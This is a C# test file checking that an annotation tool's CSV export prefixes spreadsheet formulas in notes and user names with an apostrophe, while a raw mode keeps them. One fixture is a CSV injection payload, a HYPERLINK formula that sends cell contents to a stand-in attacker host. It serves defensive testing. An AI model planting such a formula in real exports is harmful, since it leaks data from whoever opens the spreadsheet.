using System.Net.Http.Json;
using Annotate.Export;
using Annotate.Tests.Export;
using Annotate.Tests.Infrastructure;

namespace Annotate.Tests.Security;

/// <summary>A note or a name written to trick a spreadsheet into running a formula stays text in a CSV export.</summary>
public sealed class CsvInjectionTests
{
    private const string Doc = "wire.2026-03-14-first-escorted-convoy-crosses-sarn-pass";
    private const string Formula = "=HYPERLINK(\"http://attacker.example/?\"&A1,\"Click for context\")";

    [Fact]
    public async Task Formulas_In_Notes_And_Names_Are_Neutralised_By_Default_And_Raw_On_Request()
    {
        using var app = new AnnotateApp();
        await using var mallory = await HubUser.SignInAsync(app, "@SUM(1+1)");
        (await mallory.Http.PutAsJsonAsync($"/api/documents/{Doc}/annotations/{Guid.NewGuid()}",
            new { layer = "frame", label = "protest", start = 0, end = 10, note = Formula })).EnsureSuccessStatusCode();
        var folder = Path.Combine(app.Folder, "exports");
        Directory.CreateDirectory(folder);

        var safe = await AnnotateProcess.RunAsync("export", "--project", "default", "--format", "csv", "--out", Path.Combine(folder, "safe"), "--db", app.DatabasePath);
        var raw = await AnnotateProcess.RunAsync("export", "--project", "default", "--format", "csv", "--spreadsheet-safe", "false", "--out", Path.Combine(folder, "raw"), "--db", app.DatabasePath);

        Assert.True(safe.ExitCode == 0, safe.Error);
        Assert.True(raw.ExitCode == 0, raw.Error);
        var safeRow = Assert.Single(CsvExportTests.Read(Path.Combine(folder, "safe", "default.csv")).Rows);
        Assert.Equal("'" + Formula, safeRow["note"]);
        Assert.Equal("'@SUM(1+1)", safeRow["annotator_name"]);
        Assert.Equal(("0", "10"), (safeRow["start"], safeRow["end"]));
        Assert.Contains("CSV cells: spreadsheet-safe", await File.ReadAllTextAsync(Path.Combine(folder, "safe", "README.md")), StringComparison.Ordinal);
        var rawRow = Assert.Single(CsvExportTests.Read(Path.Combine(folder, "raw", "default.csv")).Rows);
        Assert.Equal(Formula, rawRow["note"]);
        Assert.Equal("@SUM(1+1)", rawRow["annotator_name"]);
        Assert.Contains("CSV cells: raw", await File.ReadAllTextAsync(Path.Combine(folder, "raw", "README.md")), StringComparison.Ordinal);
    }

    [Theory]
    [InlineData("=1+2", "'=1+2")]
    [InlineData("+41 22 000", "'+41 22 000")]
    [InlineData("-cmd", "'-cmd")]
    [InlineData("@A1", "'@A1")]
    [InlineData("\tx", "'\tx")]
    [InlineData("\rx", "'\rx")]
    [InlineData("-0.25", "-0.25")]
    [InlineData("1e-5", "1e-5")]
    [InlineData("protest", "protest")]
    [InlineData("", "")]
    public void Cells_A_Spreadsheet_Would_Run_Get_An_Apostrophe_And_Numbers_Do_Not(string cell, string written) =>
        Assert.Equal(written, CsvFile.SpreadsheetSafe(cell));
}
